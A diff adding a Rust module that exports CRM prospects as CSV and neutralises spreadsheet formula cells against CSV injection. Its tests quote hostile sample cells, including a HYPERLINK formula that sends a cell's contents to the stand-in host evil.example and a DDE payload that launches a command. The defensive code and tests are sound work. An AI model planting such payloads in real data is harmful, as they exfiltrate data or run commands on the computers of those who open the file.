@@ -1,0 +1,171 @@
+//! Prospects as CSV, for `GET /prospects/export.csv` and
+//! `rally export prospects`: the same columns, the same cell rules.
+//!
+//! A spreadsheet opening the file runs any cell that starts like a formula,
+//! so a name typed as `=HYPERLINK(…)` or `+cmd|…` on a public form would
+//! run on the desk of whoever opens the export. Every such cell is
+//! neutralised by OWASP's rule (see [`cell`]); the import recognises the
+//! guard and takes it off again ([`unguard`]), so an export imports back
+//! unchanged. The file starts with a UTF-8 byte-order mark, which is how
+//! Excel knows to read it as UTF-8 (names such as Zoë, Élodie, Иван).
+
+use std::{borrow::Cow, io::Write};
+
+use anyhow::Context;
+
+use crate::platform::{db, text::Phone, ui::utc_datetime};
+
+/// The UTF-8 byte-order mark every export starts with.
+pub const BOM: &str = "\u{feff}";
+
+pub async fn prospects(pool: &db::Pool, org_slug: &str, out: impl Write) -> anyhow::Result<usize> {
+    let org = crate::organizations::queries::organization_by_slug(pool, org_slug)
+        .await?
+        .with_context(|| format!("no organization with slug {org_slug:?}"))?;
+    let rows =
+        crate::prospects::queries::all_prospects(pool, db::Scope::organization(org.id)).await?;
+    write_csv(&rows, out)?;
+    Ok(rows.len())
+}
+
+/// Characters that make a spreadsheet read a cell as a formula when they
+/// come first (OWASP's "CSV injection" list).
+const FORMULA_START: &[char] = &['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a spreadsheet would treat `value` as a formula: it starts with
+/// one of `= + - @`, a tab or a carriage return, also after leading spaces
+/// or a line break (some spreadsheets skip those).
+fn looks_like_formula(value: &str) -> bool {
+    value.starts_with(FORMULA_START)
+        || value
+            .trim_start_matches([' ', '\n'])
+            .starts_with(FORMULA_START)
+}
+
+/// Whether [`cell`] guards `value`: a spreadsheet would run it, or would
+/// once [`unguard`] took off a quote it starts with (so `'=x` is written
+/// `''=x` and comes back as `'=x`).
+fn needs_guard(value: &str) -> bool {
+    looks_like_formula(value.trim_start_matches('\''))
+}
+
+/// `value` as an exported cell: prefixed with a single quote when a
+/// spreadsheet would run it as a formula, else unchanged.
+pub fn cell(value: &str) -> Cow<'_, str> {
+    if needs_guard(value) {
+        Cow::Owned(format!("'{value}"))
+    } else {
+        Cow::Borrowed(value)
+    }
+}
+
+/// A phone cell: a value that is a valid phone number without an extension
+/// (digits, spaces and `+ - ( ) . /` only, see [`Phone`]) is data, not a
+/// formula, and is written as it is, so `+1 555 0100` survives export and
+/// import unchanged; any other value (an extension such as `x34` reads as
+/// a cell reference) gets the rule of [`cell`], which import undoes.
+pub fn phone_cell(value: &str) -> Cow<'_, str> {
+    match Phone::parse(value) {
+        Ok(Some(phone)) if phone.as_str() == value && Phone::split_extension(value).is_none() => {
+            Cow::Borrowed(value)
+        }
+        _ => cell(value),
+    }
+}
+
+/// The value an exported cell stood for: the single quote that [`cell`]
+/// added (one followed by what would start a formula, perhaps after more
+/// quotes) is taken off; any other text is unchanged. For CSV import.
+pub fn unguard(value: &str) -> &str {
+    match value.strip_prefix('\'') {
+        Some(rest) if needs_guard(rest) => rest,
+        _ => value,
+    }
+}
+
+/// Prospects as CSV: a byte-order mark, a header row, one row per prospect
+/// (the same columns everywhere), every cell through [`cell`] (the phone
+/// through [`phone_cell`]).
+pub fn write_csv(
+    rows: &[crate::prospects::queries::Prospect],
+    mut out: impl Write,
+) -> anyhow::Result<()> {
+    out.write_all(BOM.as_bytes())?;
+    let mut writer = csv::Writer::from_writer(out);
+    writer.write_record([
+        "id",
+        "name",
+        "email",
+        "phone",
+        "company",
+        "source",
+        "created_at",
+        "submissions",
+        "stage",
+        "owner",
+    ])?;
+    for p in rows {
+        let id = p.id.to_string();
+        let created = utc_datetime(p.created_at);
+        let submissions = p.submissions.to_string();
+        // The domain in Unicode; import reads it back to the same key.
+        let email = crate::platform::text::display_email(&p.email);
+        let cells = [
+            cell(&id),
+            cell(&p.name),
+            cell(&email),
+            phone_cell(p.phone.as_deref().unwrap_or_default()),
+            cell(p.company.as_deref().unwrap_or_default()),
+            cell(&p.source),
+            cell(&created),
+            cell(&submissions),
+            cell(p.stage.as_str()),
+            cell(p.owner_name.as_deref().unwrap_or_default()),
+        ];
+        writer.write_record(cells.iter().map(|c| c.as_bytes()))?;
+    }
+    writer.flush()?;
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formulas_are_neutralised_and_come_back() {
+        for formula in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&C2,\"Click\")",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "  =1",
+        ] {
+            let guarded = cell(formula);
+            assert!(guarded.starts_with('\''), "{formula:?} left as {guarded:?}");
+            assert_eq!(unguard(&guarded), formula);
+        }
+        // Text that already looks guarded keeps its own quote.
+        assert_eq!(unguard(&cell("'=x")), "'=x");
+        for plain in ["Ana Lima", "Zoë", "'quoted'", "a=b", ""] {
+            assert_eq!(cell(plain), plain);
+            assert_eq!(unguard(plain), plain);
+        }
+    }
+
+    #[test]
+    fn phone_numbers_are_data() {
+        for phone in [
+            "+1 555 0100",
+            "-555-0100 12",
+            "(555) 010-9999",
+            "+44 20 7946 0000",
+        ] {
+            assert_eq!(phone_cell(phone), phone);
+        }
+        assert_eq!(phone_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
+        assert_eq!(phone_cell("=1+2"), "'=1+2");
+    }
+}
